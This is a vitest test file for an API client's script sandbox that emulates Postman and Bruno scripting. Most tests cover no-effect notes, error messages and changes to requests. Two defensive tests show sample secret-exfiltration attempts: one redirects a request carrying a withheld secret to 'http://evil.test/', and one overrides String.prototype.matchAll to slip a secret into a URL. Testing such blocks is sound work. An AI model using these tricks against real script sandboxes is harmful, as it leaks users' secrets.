import type { ScriptNote } from '@parley/model'
import { describeScriptNote } from '@parley/model'
import { describe, expect, test } from 'vitest'
import { type ScriptedSend, sendWithScripts } from './script-fixture.testkit.ts'

const network = { 'http://auth.test/': { status: 404, body: '{}' } }

async function notesOf(send: ScriptedSend) {
  const { outcome, error } = await sendWithScripts({ network, ...send })
  const notices = outcome.ok ? outcome.value.exchange.notices : []
  return { error, notes: notices.filter((one): one is ScriptNote => one.code === 'SCRIPT_NOTE') }
}

const withoutEffect: readonly (readonly [call: string, member: string])[] = [
  ...['pm', 'insomnia'].map(name => [`${name}.setNextRequest("a")`, 'pm.setNextRequest'] as const),
  ['pm.execution.setNextRequest(null)', 'pm.execution.setNextRequest'],
  ['postman.setNextRequest("a")', 'postman.setNextRequest'],
  ['bru.setNextRequest("a")', 'bru.setNextRequest'],
  ['bru.runner.setNextRequest("a")', 'bru.runner.setNextRequest'],
  ['bru.runner.skipRequest()', 'bru.runner.skipRequest'],
  ['bru.runner.stopExecution()', 'bru.runner.stopExecution'],
  ...['get', 'has', 'toObject', 'all'].map(
    name => [`pm.cookies.${name}("a")`, `pm.cookies.${name}`] as const,
  ),
  ...['set', 'get', 'getAll', 'unset', 'clear'].map(
    name => [`pm.cookies.jar().${name}("http://h", () => {})`, `pm.cookies.jar().${name}`] as const,
  ),
  ...['get("a")', 'has("a")', 'toObject()', 'unset("a")'].map(
    call => [`pm.iterationData.${call}`, `pm.iterationData.${call.split('(')[0]}`] as const,
  ),
  ...['get', 'has'].map(
    name => [`bru.runner.iterationData.${name}("a")`, `bru.runner.iterationData.${name}`] as const,
  ),
  ['pm.request.name = "a"', 'pm.request.name ='],
  ['pm.request.id = "a"', 'pm.request.id ='],
  ['tool.request.auth = { type: "noauth" }', 'tool.request.auth ='],
  ['req.url = "http://x/"', 'req.url ='],
  ['req.method = "PUT"', 'req.method ='],
  ['req.headers = { a: "b" }', 'req.headers ='],
  ['req.body = "a"', 'req.body ='],
]

describe('members without effect leave a note with their line (behaviour, Members without effect)', () => {
  test.each(withoutEffect)('%s', async (call, member) => {
    for (const phase of ['pre', 'post'] as const) {
      const { error, notes } = await notesOf({ [phase]: `\n${call}` })
      expect(error).toBeNull()
      expect(notes).toEqual([
        { code: 'SCRIPT_NOTE', owner: 'request', member, line: 2, text: 'has no effect' },
      ])
      expect(notes.map(describeScriptNote)).toEqual([`${member} (line 2) has no effect`])
    }
  })

  test.each([
    ['auth', 'pm.sendRequest({ url: "http://auth.test/", auth: { type: "basic" } }, () => {})'],
    ['proxy', 'pm.sendRequest({ url: "http://auth.test/", proxy: {} }, () => {})'],
    ['certificate', 'pm.sendRequest({ url: "http://auth.test/", certificate: {} }, () => {})'],
  ])('%s in pm.sendRequest', async (field, pre) => {
    expect((await notesOf({ pre })).notes).toMatchObject([
      { member: `${field} in pm.sendRequest`, line: 1, text: 'has no effect' },
    ])
  })

  test.each([
    ['a script that throws', 'throw new Error("x")', 'SCRIPT_ERROR'],
    ['one that skips its request', 'pm.execution.skipRequest()', 'SKIPPED_BY_SCRIPT'],
    ['one that runs too long', 'for (;;);', 'SCRIPT_TIMEOUT'],
    ['a request that cannot be sent then', 'tool.variables.set("host", "")', 'INVALID_URL'],
  ])('%s keeps the notes before it', async (_name, rest, code) => {
    const { outcome } = await sendWithScripts({
      request: { url: '{{host}}' },
      variables: { environment: { host: 'http://h/' } },
      budget: { ownMs: 300, requestMs: 300 },
      pre: `pm.setNextRequest("a");\n${rest}`,
    })
    const failure = outcome.ok ? null : outcome.failure.failure
    expect(failure?.code).toBe(code)
    // Nothing is kept of a script that is stopped.
    if (code === 'SCRIPT_TIMEOUT') expect(failure?.notes).toBeUndefined()
    else
      expect(failure?.notes).toMatchObject([{ member: 'pm.setNextRequest', line: 1, text: 'has no effect' }])
  })

  test('each call of the source leaves one, in the order of the calls', async () => {
    const pre =
      'for (let i = 0; i < 500; i++) pm.setNextRequest("a")\nbru.setNextRequest("b"); bru.setNextRequest("c")'
    const { notes } = await notesOf({ pre, post: 'pm.setNextRequest("d")' })
    expect(notes.map(({ member, line }) => [member, line])).toEqual([
      ['pm.setNextRequest', 1],
      ['bru.setNextRequest', 2],
      ['bru.setNextRequest', 2],
      ['pm.setNextRequest', 1],
    ])
  })

  test('no script can fill the notices', async () => {
    const post = Array.from({ length: 300 }, () => 'pm.setNextRequest("a")').join('\n')
    const { notes } = await notesOf({ post })
    expect(notes).toHaveLength(100)
  })

  test('members with an effect leave none', async () => {
    const pre = `pm.environment.set("a", 1); pm.request.method = "PUT"; pm.request.url = "http://h/x"
      pm.request.headers.add({ key: "A", value: "b" }); pm.variables.replaceIn("{{$guid}} {{a}}")
      pm.sendRequest("http://auth.test/", () => {}); new Intl.NumberFormat("en-US").format(1)`
    expect((await notesOf({ pre })).notes).toEqual([])
  })
})

describe('what differs from other clients is noted', () => {
  test.each([
    ['pm.sendRequest("http://auth.test/")', 'pm.sendRequest', 'has no callback, so its response is not used'],
    ['pm.test.skip("a", () => {})', 'test.skip', 'skips its test'],
    [
      'pm.variables.replaceIn("{{$randomFirstName}} {{$guid}} {{unknown}}")',
      '{{$randomFirstName}}',
      'is not a dynamic variable here and stays as typed',
    ],
    [
      'pw.env.set("a", "<<b>>"); pw.env.getResolve("a")',
      'pw.env.getResolve',
      'returns a value set by a script unchanged, including the {{names}} in it',
    ],
    ['tool.test("a", () => new Promise(() => {}))', 'test', 'was not waited for'],
    ...[
      'await pm.sendRequest("http://auth.test/", () => {})',
      'await Promise.all([pm.sendRequest("http://auth.test/", () => {})])',
    ].map(call => [
      call,
      'pm.sendRequest',
      'returns nothing to await, so what follows does not wait for its callback',
    ]),
  ])('%s', async (pre, member, text) => {
    expect((await notesOf({ pre })).notes).toMatchObject([{ member, line: 1, text }])
  })

  test('a promise that settles in time leaves none', async () => {
    expect((await notesOf({ pre: 'pm.sendRequest("http://auth.test/", () => {})' })).notes).toEqual([])
    const post = 'pm.test("a", async () => { await Promise.resolve() }); await Promise.resolve()'
    expect((await notesOf({ post })).notes).toEqual([])
  })
})

describe('errors name what was called and its line', () => {
  test.each([
    [
      '\nconst r = await pm.sendRequest("http://auth.test/"); r.json()',
      'pm.sendRequest takes a callback and returns nothing to await',
      2,
    ],
    [
      '\npm.sendRequest("http://auth.test/").then(r => r.json())',
      'pm.sendRequest takes a callback and returns nothing to await',
      2,
    ],
    ['\nawait bru.sendRequest({ url: "http://auth.test/" })', 'Request failed with status code 404', 2],
    ['hopp.env.get("a")', 'hopp is not supported', 1],
    ['req.setHeader("A", undefined)', 'TypeError: req.setHeader needs a value for A, but it is undefined', 1],
  ])('%s', async (pre, message, line) => {
    const { outcome } = await sendWithScripts({ pre, network })
    expect(outcome).toMatchObject({
      failure: { failure: { scriptError: { message: expect.stringContaining(message), line } } },
    })
  })

  test('also in tests, where failed assertions need none', async () => {
    const { results } = await sendWithScripts({
      post: `pm.test("call", () => {\n pm.nothing() })
        test("awaited", async () => { await null; bru.nothing() })
        pm.test("global", () => fetch())
        pm.test("member", () => pm.vault.get("a"))
        pm.test("own", () => { throw new Error("own") })
        pm.test("assertion", () => pm.expect(1).to.equal(2))`,
    })
    expect(results.map(({ reason }) => reason)).toEqual([
      'TypeError: not a function: pm.nothing. Check the spelling of pm.nothing. (line 2)',
      'TypeError: not a function: bru.nothing. Check the spelling of bru.nothing. (line 3)',
      'fetch is not supported. Use bru.sendRequest or pm.sendRequest in a Pre Request script. (line 4)',
      'pm.vault.get is not supported. Use a secret variable and allow it to scripts. (line 5)',
      'own',
      'expected 1 to equal 2',
    ])
  })

  test('a script that waited for a response names the limit for that', async () => {
    const { error } = await sendWithScripts({
      budget: { ownMs: 5_000, requestMs: 300 },
      network,
      onCall: (_message, signal) => new Promise<void>(done => signal.addEventListener('abort', () => done())),
      pre: 'await bru.sendRequest({ url: "http://auth.test/" })',
    })
    expect(error).toBe('Script timeout: stopped after 0.3 seconds')
  })
})

describe('assignments to the request before it is sent (behaviour, Members without effect)', () => {
  const header = (name: string) => (one: { readonly name: string }) => one.name === name

  test.each<
    readonly [string, string, { readonly method?: string; readonly url?: string; readonly body?: string }]
  >([
    ['method', 'pm.request.method = "put"', { method: 'PUT' }],
    ['URL', 'pm.request.url = "http://other.test/{{n}}/:id?a=b c"', { url: 'http://other.test/9/7?a=b%20c' }],
    ['URL of an object', 'pm.request.url = { raw: "http://other.test/" }', { url: 'http://other.test/' }],
    ['URL of a URL', 'pm.request.url = new URL("http://other.test/x")', { url: 'http://other.test/x' }],
    ['added to the URL', 'pm.request.url = pm.request.url + "&more=1"', { url: 'http://h/7?n=9&more=1' }],
    ['text', 'pm.request.body = "a{{n}}"', { body: 'a{{n}}' }],
    ['JSON', 'pm.request.body = { a: 1 }', { body: '{"a":1}' }],
    ['raw', 'pm.request.body = { mode: "raw", raw: "x" }', { body: 'x' }],
    [
      'a form',
      'pm.request.body = { mode: "urlencoded", urlencoded: [{ key: "a", value: "b c" }] }',
      { body: 'a=b+c' },
    ],
    [
      'GraphQL',
      'pm.request.body = { mode: "graphql", graphql: { query: "{a}" } }',
      { body: '{"query":"{a}"}' },
    ],
  ])('%s', async (_name, pre, wanted) => {
    const request = { url: 'http://h/:id?n={{n}}', pathParams: [{ name: 'id', value: '7', enabled: true }] }
    const { sent, error } = await sendWithScripts({
      pre,
      request: { ...request, method: 'POST' },
      variables: { environment: { n: '9' } },
    })
    expect(error).toBeNull()
    expect(sent).toMatchObject(wanted)
  })

  test.each([
    ['an object', 'pm.request.headers = { A: "1", B: "2" }'],
    ['a list', 'pm.request.headers = [{ key: "A", value: "1" }, { key: "B", value: "2" }]'],
    [
      'add and upsert',
      'pm.request.headers.add({ key: "A", value: "1" }); pm.request.headers.upsert({ key: "B", value: "2" })',
    ],
  ])('headers by %s', async (_name, pre) => {
    const { sent } = await sendWithScripts({
      pre,
      request: { headers: [{ name: 'C', value: '3', enabled: true }] },
    })
    expect(sent?.headers.filter(one => ['A', 'B', 'C'].includes(one.name))).toEqual([
      { name: 'C', value: '3' },
      { name: 'A', value: '1' },
      { name: 'B', value: '2' },
    ])
  })

  test('a header is removed', async () => {
    const { sent } = await sendWithScripts({
      pre: 'pm.request.headers.remove("c")',
      request: { headers: [{ name: 'C', value: '3', enabled: true }] },
    })
    expect(sent?.headers.some(header('C'))).toBe(false)
  })

  test('later scripts see them', async () => {
    const { error, results } = await sendWithScripts({
      pre: 'pm.request.url = "http://other.test/"; pm.request.method = "PATCH"; pm.test("now", () => pm.expect([pm.request.url, pm.request.method]).to.eql(["http://other.test/", "PATCH"]))',
      post: 'pm.test("then", () => pm.expect([pm.request.url, pm.request.method]).to.eql(["http://other.test/", "PATCH"]))',
    })
    expect(error).toBeNull()
    expect(results).toEqual([
      { passed: true, name: 'now' },
      { passed: true, name: 'then' },
    ])
  })

  test.each([
    ['pm.request.method = "A B"', '“A B” is not a method'],
    ['pm.request.headers = { Host: "x" }', 'The header Host cannot be changed by a script'],
    ['pm.request.url = 7', 'TypeError: pm.request.url needs a URL'],
    ['pm.request.url = "http://h/?{{secret}}"', 'Secret variable "secret" is withheld from scripts'],
    [
      'String.prototype.matchAll = () => []; pm.request.url = "http://h/?{{secret}}"',
      'Secret variable "secret" is withheld from scripts',
    ],
    ['pm.request.url = "x".repeat(70000)', 'A script can set a URL of at most 64 KB'],
    [
      'pm.request.body = { mode: "formdata", formdata: [] }',
      'pm.request.body with a body of mode formdata is not supported',
    ],
  ])('%s is refused', async (pre, message) => {
    const { error, sent } = await sendWithScripts({
      pre,
      secrets: { secret: { value: 's3cret-value', allowed: false } },
    })
    expect(error).toContain(message)
    expect(sent).toBeNull()
  })

  test.each(['url = "http://x/"', 'method = "PUT"', 'body = "x"', 'headers = { A: "b" }'])(
    'pm.request.%s after the send is refused',
    async assignment => {
      const { error } = await sendWithScripts({ post: `pm.request.${assignment}` })
      expect(error).toContain('is not available in this context')
    },
  )

  test('a withheld secret is not sent to a host that a script chose (SB7)', async () => {
    const { outcome, sent } = await sendWithScripts({
      pre: 'pm.request.url = "http://evil.test/"',
      request: { headers: [{ name: 'X-Key', value: '{{secret}}', enabled: true }] },
      secrets: { secret: { value: 's3cret-value', allowed: false } },
    })
    expect(outcome).toMatchObject({ ok: false })
    expect(sent).toBeNull()
  })

  test('the URL of the user may name a withheld secret, also if a script adds to it', async () => {
    const { sent, error } = await sendWithScripts({
      pre: 'pm.request.url = pm.request.url + "&a=1"',
      request: { url: 'http://h/?k={{secret}}' },
      secrets: { secret: { value: 's3cret-value', allowed: false } },
    })
    expect(error).toBeNull()
    expect(sent?.url).toBe('http://h/?k=s3cret-value&a=1')
  })
})
